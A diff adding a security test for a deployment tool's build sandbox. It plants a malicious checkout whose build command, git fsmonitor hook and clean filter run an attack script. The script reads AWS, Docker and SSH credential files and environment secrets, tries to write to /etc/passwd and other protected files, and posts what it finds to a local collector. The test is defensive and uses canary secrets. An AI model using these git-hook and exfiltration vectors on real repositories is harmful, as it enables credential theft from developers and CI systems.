@@ -1,0 +1,149 @@
+import { spawnSync } from "node:child_process";
+import { writeFileSync } from "node:fs";
+import { createServer, type Server } from "node:http";
+import { type AddressInfo } from "node:net";
+import { join } from "node:path";
+import { expect } from "chai";
+import { EXIT } from "../../deploy/exitCodes";
+import { AwsDouble, ENV } from "../deploy/double/aws";
+import { type CliResult, hasSandbox, runCli } from "../deploy/double/cli";
+import { ScaledTime } from "../deploy/double/clocks";
+import { serve } from "../deploy/double/server";
+import {
+  gitIn,
+  makeCheckout,
+  removeTemporaryDirectories,
+  skip,
+  temporaryDirectory,
+  writeFiles,
+} from "../deploy/source/checkout";
+
+const ROOT = join(__dirname, "../..");
+const ATTACK = join(__dirname, "attack.js");
+const SECRET = "canary-of-the-credentials";
+
+interface Loot {
+  name: string;
+  canWrite: string[];
+}
+
+/** A server to which the attack sends what it reads. */
+async function withCollector(test: (url: string, posts: string[]) => Promise<void>): Promise<void> {
+  const posts: string[] = [];
+  const server: Server = createServer((incoming, outgoing) => {
+    let body = "";
+    incoming.on("data", (chunk: Buffer) => (body += chunk.toString()));
+    incoming.on("end", () => {
+      posts.push(body);
+      outgoing.end();
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  try {
+    await test(`http://127.0.0.1:${(server.address() as AddressInfo).port}`, posts);
+  } finally {
+    server.close();
+    server.closeAllConnections();
+  }
+}
+
+describe("security: a build that attacks the deployment's credentials", function () {
+  this.timeout(120_000);
+  after(removeTemporaryDirectories);
+
+  /** Deploys a checkout whose build commands and git configuration attack, as a user with credentials everywhere. */
+  async function deployAttack(...options: string[]): Promise<{ result: CliResult; posts: string[] }> {
+    const home = temporaryDirectory();
+    const secrets = [".aws/credentials", ".aws/sso/cache/a.json", ".docker/config.json", ".ssh/id_ed25519"];
+    writeFiles(home, Object.fromEntries(secrets.map((name) => [name, SECRET])));
+    const agent = temporaryDirectory();
+    writeFileSync(join(agent, "agent"), SECRET);
+    const elsewhere = join(agent, "web-identity-token");
+    writeFileSync(elsewhere, SECRET);
+    let outcome: { result: CliResult; posts: string[] } | undefined;
+    await withCollector(async (url, posts) => {
+      const time = new ScaledTime(60);
+      const double = new AwsDouble(1, time);
+      double.addPair();
+      const running = await serve(double);
+      double.describeTarget(running.url);
+      const read = [...secrets.map((name) => join(home, name)), join(agent, "agent"), elsewhere];
+      const protectedFiles = [
+        join(ROOT, "deploy/deploy.ts"),
+        join(ROOT, "node_modules"),
+        join(home, ".bashrc"),
+        "/proc/sys/kernel/core_pattern",
+        "/etc/passwd",
+      ];
+      writeFiles(home, { ".bashrc": "" });
+      const attack = (name: string, source: string): string =>
+        [
+          process.execPath,
+          ATTACK,
+          name,
+          url,
+          ...read,
+          "--",
+          ...protectedFiles,
+          join(source, ".git/config"),
+        ].join(" ");
+      const source = makeCheckout({ "manage.py": "", "requirements.txt": "", ".gitignore": "/static\n" });
+      writeFiles(source, {
+        "fsmonitor.sh": { executable: `#!/bin/sh\n${attack("fsmonitor", source)}\n` },
+        "filter.sh": { executable: `#!/bin/sh\n${attack("filter", source)}\ncat\n` },
+        ".gitattributes": "manage.py filter=attack\n",
+        "iaso-deploy.yaml":
+          `build:\n  - ${attack("command", source)}\n` +
+          `  - git -C ${source} config core.pager evil || true\n` +
+          "collectStatic: ['mkdir -p static && echo 1 > static/a.js']\ninclude: []\n",
+      });
+      gitIn(source, "add", "--all");
+      gitIn(source, "commit", "--quiet", "-m", "Attack");
+      gitIn(source, "config", "core.fsmonitor", join(source, "fsmonitor.sh"));
+      gitIn(source, "config", "filter.attack.clean", join(source, "filter.sh"));
+      // git compares the content of a file with another time, through the filter.
+      spawnSync("touch", ["-d", "2001-01-01", join(source, "manage.py")]);
+      try {
+        const environment = {
+          HOME: home,
+          AWS_SECRET_ACCESS_KEY: SECRET,
+          AWS_WEB_IDENTITY_TOKEN_FILE: elsewhere,
+          ACTIONS_ID_TOKEN_REQUEST_TOKEN: SECRET,
+          SLACK_WEBHOOK_URL: `${running.url}/slack/T000/B000/${SECRET}`,
+          SSH_AUTH_SOCK: join(agent, "agent"),
+        };
+        const result = await runCli(running, time, [ENV, "--source", source, ...options], { environment });
+        outcome = { result, posts };
+      } finally {
+        await running.stop();
+      }
+    });
+    return outcome!;
+  }
+
+  const namesOf = (posts: readonly string[]): string[] =>
+    [...new Set(posts.map((post) => (JSON.parse(post) as Loot).name))].sort();
+
+  it("finds no credentials in the sandbox: not by processes, files, links of git, or uncovered directories", async function () {
+    if (!hasSandbox) skip(this, "bwrap is not installed, or not permitted here (apt-get install bubblewrap)");
+    const { posts, result } = await deployAttack();
+    expect(result.code, result.stderr + result.stdout).to.equal(EXIT.done);
+    expect(namesOf(posts)).to.deep.equal(["command", "filter", "fsmonitor"]);
+    for (const post of posts) {
+      expect(post).not.to.contain(SECRET);
+      expect((JSON.parse(post) as Loot).canWrite).to.deep.equal([]);
+    }
+  });
+
+  it("finds all of them in the same build where the user lets it", async () => {
+    const { posts, result } = await deployAttack("--build-with-my-credentials");
+    expect(result.code, result.stderr + result.stdout).to.equal(EXIT.done);
+    expect(result.stdout).to.contain("warning: The application's code can read your AWS credentials");
+    expect(namesOf(posts)).to.deep.equal(["command", "filter", "fsmonitor"]);
+    for (const post of posts) {
+      const { files, processes } = JSON.parse(post) as { files: string[]; processes: string[] };
+      expect(files.every((content) => content === SECRET)).to.equal(true);
+      expect(processes.join("")).to.contain(`AWS_SECRET_ACCESS_KEY=${SECRET}`);
+    }
+  });
+});
